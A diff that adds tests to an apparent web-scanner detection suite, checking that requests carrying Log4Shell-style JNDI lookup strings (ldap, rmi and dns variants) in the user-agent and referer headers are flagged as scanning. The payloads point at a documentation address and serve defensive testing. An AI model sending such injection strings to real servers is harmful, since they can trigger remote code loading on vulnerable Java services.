@@ -38,6 +38,22 @@ describe("scans that are found", () => {
     expect(s.decidedAfter("203.0.113.7")).toBeLessThanOrEqual(4);
   });
 
+  test("an attack in the user agent, at pages that everybody reads", () => {
+    const s = new Scenario();
+    s.browse();
+    for (const [i, path] of ["/", "/pages/topic-a.html", "/pages/topic-b.html", "/pages/topic-c.html"].entries())
+      s.request("203.0.113.7", path, HOUR + i * MINUTE, { agent: "\x24{jndi:ldap://203.0.113.7/a}" });
+    expect(s.isScanner("203.0.113.7")).toBe(true);
+  });
+
+  test("attacks in referers, another with each request for the same page", () => {
+    const s = new Scenario();
+    s.browse();
+    for (const [i, scheme] of ["ldap", "rmi", "dns"].entries())
+      s.request("203.0.113.7", "/", HOUR + i * MINUTE, { referer: `\x24{jndi:${scheme}://203.0.113.7/a}` });
+    expect(s.isScanner("203.0.113.7")).toBe(true);
+  });
+
   test("closed ports of one host", () => {
     const s = new Scenario();
     s.browse();
